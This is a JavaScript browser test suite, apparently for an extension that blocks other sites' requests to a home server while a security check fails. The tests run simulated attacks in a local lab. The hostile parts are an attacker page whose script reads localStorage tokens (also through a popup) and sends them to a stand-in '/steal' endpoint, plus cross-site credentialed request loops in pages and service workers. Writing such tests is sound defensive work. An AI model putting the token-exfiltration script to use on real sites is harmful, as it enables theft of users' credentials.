// The gate is shut for everybody: for an attacker's sites, for the home's own pages that are still open, and for whoever knows the URL of
// our own probe while that is under way. An attacker answers in the home's place, and reads whatever arrives.
import { after, before, describe, test } from "./trial.mjs";
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import { startLab } from "./lab.mjs";
import { assertOnlyProbes } from "./asserts.mjs";
import { WAYS, askEveryWay, attacker, waysIn } from "./attacker.mjs";
import { KINDS, go, launch, sleep, until, where } from "./browser.mjs";

const TOKEN = "stored-refresh-token";
const POPUP_WAYS = ["popup-picture", "popup-frame", "popup-fetch"];
const PROBE = /^\/robots\.txt\?[0-9a-f]{32}$/;

/** Asks for the URLs that `/next?WHO` of the attacker's origin gives, by each method, until it gives none. Runs in a page or a worker. */
async function followProbes(thief, who) {
    const ask = { mode: "no-cors", credentials: "include", cache: "no-store" };
    for (;;) {
        const url = await (await fetch(`${thief}/next?${who}`)).text();
        if (!url) return;
        const asked = [
            fetch(url, { ...ask, method: "HEAD" }),
            fetch(url, ask),
            fetch(url, { ...ask, method: "HEAD", keepalive: true }),
            fetch(url, { ...ask, keepalive: true }),
        ];
        const ends = (await Promise.allSettled(asked)).map(({ status }) => status);
        await fetch(`${thief}/tried?${who}&${url.split("?")[1]}&${ends}`);
    }
}
/** How many requests {@link followProbes} makes for each URL. */
const TRIES = 4;

for (const kind of KINDS) {
    describe(`the shut gate in ${kind}`, () => {
        let lab, own, thief, sub, origins;
        /** What answers our probe: a promise, or at once. */
        let onProbe = () => ({ status: 200 });
        const homes = async () => (await lab.requests()).filter(({ server }) => server === "home" || server === "plain");
        const targets = async () => (await homes()).map(({ target }) => target);
        const stolen = () => thief.log.filter(({ url }) => url.includes(TOKEN));
        /** Leaves the pages of the extension alone. */
        const closeAll = async () => {
            for (const page of await own.browser.pages()) {
                if (!(await where(page)).startsWith(own.base)) await page.close().catch(() => {});
            }
        };
        const good = async () => {
            await closeAll();
            await lab.present("good");
            assert.equal((await own.ask({ ask: "check-again", address: lab.address })).light, "trusted");
        };
        const danger = async () => {
            await lab.present("A5");
            assert.equal((await own.ask({ ask: "check-again", address: lab.address })).light, "danger");
        };
        const open = async (url) => {
            const page = await own.browser.newPage();
            await go(page, url);
            await until(async () => (await where(page)) === url, { why: `arriving at ${url}` });
            return page;
        };
        const forget = async () => {
            await lab.clear();
            thief.log.length = 0;
        };

        before(async () => {
            lab = await startLab();
            sub = `sub.${lab.host}`;
            thief = await attacker(lab);
            own = await launch(kind, lab, thief.launchOptions(kind));
            const steal = thief.https.url(sub, "/steal");
            origins = {
                sibling: thief.https.url(sub, ""),
                "sibling-without-encryption": thief.http.url(sub, ""),
                "other-site": thief.http.url(lab.other_host, ""),
                // A web site may be named like the extension's origin, and rules know initiators by their host alone.
                ...(kind === "chromium" ? { "named-like-the-extension": thief.http.url(new URL(own.base).host, "") } : {}),
            };
            // A page of the attacker's. The lower half is a frame of the home, the upper half opens a popup when it is clicked.
            thief.on("/page", ({ url }) => {
                const mark = url.split("?")[1];
                const half = "position:fixed;left:0;width:100vw;height:50vh;border:0";
                return `<!doctype html><title>Page</title><link rel="icon" href="data:,"><body>
                    <iframe src="${lab.home}/attack?${mark}-secret" style="${half};bottom:0"></iframe>
                    <button style="${half};top:0">Go on</button>
                    <script>
                        const mark = "${mark}";
                        (${askEveryWay})("${lab.home}", mark).finally(() => fetch("/done?" + mark));
                        document.querySelector("button").onclick = () => {
                            const url = (way) => "${lab.home}/echo?" + mark + "-" + way + "-secret";
                            const popup = open("about:blank");
                            const picture = '<img src="' + url("popup-picture") + '">';
                            popup.document.body.innerHTML = picture + '<iframe src="' + url("popup-frame") + '"></iframe>';
                            popup.fetch(url("popup-fetch"), { mode: "no-cors", credentials: "include" })
                                .then(() => fetch("/done?popup"), () => fetch("/done?popup"));
                        };
                    </script>`;
            });
            // What answers in the home's place.
            thief.on("/attack", () => `<!doctype html><title>Home</title><body>attack<script>
                const to = (what, text) => "${steal}?" + what + "=" + encodeURIComponent(text);
                const send = (what, text) => fetch(to(what, text), { mode: "no-cors", keepalive: true });
                const storage = (of) => { try { return of.localStorage.token; } catch (error) { return String(error); } };
                send("frame", storage(window));
                const waiting = setInterval(() => {
                    if (!navigator.userActivation.isActive) return;
                    clearInterval(waiting);
                    send("popup", storage(open("about:blank")));
                }, 20);
            </script>`);
            thief.on("/echo", () => "<!doctype html><title>Echo</title>echo");
            thief.on("/frame", () => `<!doctype html><title>Home</title><link rel="icon" href="data:,"><body>Home`);
            thief.on("/done", () => ({ status: 204 }));
            thief.on("/steal", () => ({ status: 204 }));
            thief.on("/robots.txt", (entry, response) => onProbe(entry, response));
            const cookie = (site) => `${site}=secret; Secure; HttpOnly; Path=/; SameSite=${site}`;
            thief.on("/login", () => ({
                headers: { "set-cookie": ["Strict", "Lax", "None"].map(cookie) },
                body: `<!doctype html><title>Home</title><link rel="icon" href="data:,"><script>localStorage.token = "${TOKEN}";</script>`,
            }));
            assert.equal((await own.guard()).light, "trusted");
            await lab.command({ do: "upstream", address: `127.0.0.1:${thief.http.port}` });
            const page = await open(`${lab.home}/login`);
            assert.equal(await page.evaluate(() => localStorage.token), TOKEN);
            await forget();
            await page.goto(`${lab.home}/echo`);
            const { headers } = (await homes()).find(({ target }) => target === "/echo");
            for (const name of ["Strict", "Lax", "None"]) assert.match(headers.cookie, new RegExp(`${name}=secret`));
        });
        after(async () => {
            await own?.close();
            thief?.stop();
            lab?.stop();
        });

        const clickIntoFrame = async (page) => {
            await page.bringToFront();
            await page.mouse.click(100, (await page.evaluate(() => innerHeight)) - 50);
        };
        /** Opens the attacker's page and lets its popup ask. */
        const visit = async (name) => {
            await forget();
            const page = await open(`${origins[name]}/page?${name}`);
            await until(() => thief.log.some(({ url }) => url === `/done?${name}`), { why: "the page has asked" });
            await page.bringToFront();
            await page.mouse.click(100, 50);
            await until(() => thief.log.some(({ url }) => url === "/done?popup"), { why: "the popup has asked" });
            return page;
        };

        test("with the gate open, other sites' requests arrive, and an attacker in the home's place reads the token", async () => {
            await good();
            for (const name of Object.keys(origins)) {
                const page = await visit(name);
                const wanted = [...WAYS, ...POPUP_WAYS].sort();
                const seen = async () => [...new Set(waysIn(await targets(), name))].sort();
                await until(async () => wanted.length === (await seen()).length).catch(() => {});
                assert.deepEqual(await seen(), wanted, name);
                assert.ok((await targets()).includes(`/attack?${name}-secret`));
                const says = (what) => thief.log.some(({ url }) => url.startsWith(`/steal?${what}=`));
                await until(() => says("frame"), { why: `the frame is there: ${name}` });
                // A click may come too early for a frame of another process.
                const isTaken = () => clickIntoFrame(page).then(() => says("popup"));
                await until(isTaken, { every: 300, why: `the click into the frame counts: ${name}` });
                if (name === "sibling") {
                    await until(() => stolen().length > 0, { why: "the token" });
                    const cookies = (await homes()).filter(({ headers }) => headers.cookie?.includes("Strict=secret"));
                    assert.ok(cookies.length >= WAYS.length / 2, "siblings get Strict cookies");
                }
                await closeAll();
            }
        });

        test("with the gate shut and red, nothing of other sites' requests arrives, and no token is read", async () => {
            await good();
            await danger();
            for (const name of Object.keys(origins)) {
                const page = await visit(name);
                for (let n = 0; n < 3; n++) {
                    await clickIntoFrame(page);
                    await sleep(400);
                }
                assertOnlyProbes(await lab.requests());
                assert.deepEqual(thief.log.filter(({ url }) => url.startsWith("/steal")), [], name);
                await closeAll();
            }
            assert.equal((await own.status()).light, "danger");
        });

        test("a page of the home that is open when the gate shuts reaches nothing while the check goes on", async () => {
            await good();
            const page = await open(`${lab.home}/frame`);
            await forget();
            await page.evaluate(askEveryWay, lab.home, "open");
            const seen = async (mark) => [...new Set(waysIn(await targets(), mark))].sort();
            await until(async () => (await seen("open")).length === WAYS.length).catch(() => {});
            assert.deepEqual(await seen("open"), [...WAYS].sort());
            // The check does not end before it may.
            let end, isAsked;
            const ended = new Promise((done) => (end = done));
            onProbe = async () => {
                isAsked = true;
                await ended;
                return { status: 200 };
            };
            try {
                const checked = own.ask({ ask: "check-again", address: lab.address });
                await until(() => isAsked, { why: "the probe" });
                await forget();
                await page.evaluate(askEveryWay, lab.home, "shut");
                await sleep(1000);
                assertOnlyProbes(await lab.requests());
                end();
                await checked;
            } finally {
                end();
                onProbe = () => ({ status: 200 });
            }
            await until(async () => (await own.status()).light === "trusted");
            await forget();
            await page.evaluate(askEveryWay, lab.home, "again");
            await until(async () => (await seen("again")).length === WAYS.length, { why: "arriving again" });
        });

        test("pages, frames and workers of the home that go on asking reach nothing once the gate is red", async () => {
            await good();
            let goesOn = true;
            thief.on("/goes-on", () => ({ status: goesOn ? 204 : 404 }));
            thief.on("/poller.js", () => ({
                type: "text/javascript",
                body: `self.oninstall = () => skipWaiting(); self.onactivate = (event) => event.waitUntil(clients.claim());
                    const ask = async () => {
                        while ((await fetch("${origins.sibling}/goes-on")).ok) {
                            await fetch("/echo?worker-fetch-" + Date.now() + "-secret", { method: "POST", body: "secret" }).catch(() => {});
                            await new Promise((done) => setTimeout(done, 200));
                        }
                        await fetch("${origins.sibling}/ended");
                    };
                    self.onmessage = (event) => event.waitUntil(ask());`,
            }));
            thief.on("/poll", () => `<!doctype html><title>Home</title><link rel="icon" href="data:,"><body>Home<script>
                const name = location.search.slice(1);
                if (name === "top") {
                    const { serviceWorker } = navigator;
                    serviceWorker.register("/poller.js").then(() => serviceWorker.ready).then(({ active }) => active.postMessage(1));
                }
                setInterval(() => {
                    const url = (way) => "/echo?" + name + "-" + way + "-" + Date.now() + "-secret";
                    fetch(url("fetch"), { keepalive: true }).catch(() => {});
                    new Image().src = url("picture");
                    new WebSocket("wss://" + location.host + url("socket"));
                }, 400);
            </script>`);
            thief.on("/frames", () => `<!doctype html><title>Frames</title><iframe src="${lab.home}/poll?framed"></iframe>`);
            await open(`${lab.home}/poll?top`);
            await open(`${origins.sibling}/frames`);
            await open(`${origins["other-site"]}/frames`);
            await forget();
            try {
                for (const [mark, ways] of [["top", 3], ["framed", 3], ["worker", 1]]) {
                    const seen = async () => new Set(waysIn(await targets(), mark).map((way) => way.split("-")[0]));
                    await until(async () => (await seen()).size === ways, { why: `${mark} asks` });
                }
                await danger();
                // What was asked before may still be on its way: each request has the time at which it was asked.
                const isRed = Date.now();
                await forget();
                await sleep(1500);
                const since = ({ target }) => Number(target.match(/-(\d+)-secret$/)?.[1] ?? isRed) - isRed;
                const after = (await lab.requests()).filter((one) => since(one) >= 0);
                assert.deepEqual(after.filter((one) => since(one) > 0).map((one) => `${one.target}: ${since(one)} ms after red`), []);
                assertOnlyProbes(after);
                assert.ok(thief.log.some(({ url }) => url === "/goes-on"), "the worker still runs");
            } finally {
                goesOn = false;
                await until(() => thief.log.some(({ url }) => url === "/ended"), { why: "the worker ends" });
                // Chromium would look for a newer one at some time.
                await good();
                const page = await open(`${lab.home}/frame`);
                await page.evaluate(async () => {
                    for (const one of await navigator.serviceWorker.getRegistrations()) await one.unregister();
                });
                await page.close();
            }
        });

        test("whoever knows the URL of a probe that is under way gets nothing by it", async () => {
            await good();
            // Each asker waits for URLs by a request of its own, which is answered as soon as there is one.
            const waiting = new Map();
            const wait = (who) => new Promise((done) => waiting.set(who, (body) => done({ type: "text/plain", body })));
            thief.on("/next", ({ url }) => wait(url.split("?")[1]));
            thief.on("/tried", () => ({ status: 204 }));
            thief.on("/sw.js", () => ({
                type: "text/javascript",
                body: `self.oninstall = () => skipWaiting(); self.onactivate = (event) => event.waitUntil(clients.claim());
                    ${followProbes} self.onmessage = (event) => event.waitUntil(followProbes("${origins.sibling}", "worker"));`,
            }));
            thief.on("/asker", () => `<!doctype html><title>Asker</title><link rel="icon" href="data:,"><body>asker<script>
                ${followProbes} followProbes("", "sibling");
                const { serviceWorker } = navigator;
                serviceWorker.register("/sw.js").then(() => serviceWorker.ready).then(({ active }) => active.postMessage(1));
            </script>`);
            const askers = ["sibling", "worker", "own"];
            const follow = (page) => page.evaluate(`void (${followProbes})("${origins.sibling}", "own").catch(() => {})`);
            const tell = async (who, url) => {
                await until(() => waiting.has(who), { why: `${who} waits for a URL` });
                const answer = waiting.get(who);
                waiting.delete(who);
                answer(url);
            };
            const hasTried = (who, url) => thief.log.some((entry) => entry.url.startsWith(`/tried?${who}&${url.split("?")[1]}`));
            await open(`${origins.sibling}/asker`);
            const page = await open(`${lab.home}/frame`);
            await follow(page);

            // With the gate open, all of it arrives.
            for (const who of askers) {
                await forget();
                const url = `${lab.home}/robots.txt?${randomBytes(16).toString("hex")}`;
                await tell(who, url);
                await until(() => hasTried(who, url), { why: `${who} has tried` });
                const arrived = (await homes()).filter(({ target }) => url.endsWith(target));
                assert.equal(arrived.length, TRIES, `${who} with the gate open`);
                assert.ok(arrived.every(({ headers }) => headers.cookie), `${who} with cookies`);
            }

            // The server reads the URL, passes it on, and answers the probe when everybody has tried. One that hangs up on HEAD is asked
            // by GET. So is one that takes too long.
            let probes = [], present = [], hangsUp = false;
            onProbe = async (entry, response) => {
                const url = `${lab.home}${entry.url}`;
                if (hangsUp && entry.method === "HEAD") return void response.destroy();
                if (probes.includes(url)) return { status: 200 };
                probes.push(url);
                await Promise.all(present.map((who) => tell(who, url).then(() => until(() => hasTried(who, url))))).catch(() => {});
                return { status: 200 };
            };
            const attack = async (who, light) => {
                await until(() => who.every((one) => waiting.has(one)), { why: "the askers are there" });
                await forget();
                [probes, present] = [[], who];
                const checked = await own.ask({ ask: "check-again", address: lab.address });
                assert.equal(checked.light, light);
                assert.ok(probes.length > 0, "a probe arrived");
                await sleep(1000);
                const requests = (await lab.requests()).filter(({ method }) => !hangsUp || method !== "HEAD");
                assertOnlyProbes(requests, ["HEAD", "GET"]);
                for (const url of probes) {
                    for (const one of who) assert.ok(hasTried(one, url), `${one} has tried`);
                    assert.equal(requests.filter(({ target }) => url.endsWith(target)).length, 1, "the probe alone");
                }
                assert.equal(requests.filter(({ server }) => server === "home" || server === "plain").length, probes.length);
                assert.ok(probes.every((url) => PROBE.test(url.slice(lab.home.length))));
            };
            try {
                for (hangsUp of [false, true]) for (let n = 0; n < 3; n++) await attack(askers, "trusted");
                await lab.present("A5");
                await page.close();
                waiting.delete("own");
                for (hangsUp of [false, true]) for (let n = 0; n < 3; n++) await attack(["sibling", "worker"], "danger");
            } finally {
                onProbe = () => ({ status: 200 });
                for (const answer of waiting.values()) answer("");
            }
        });
    });
}
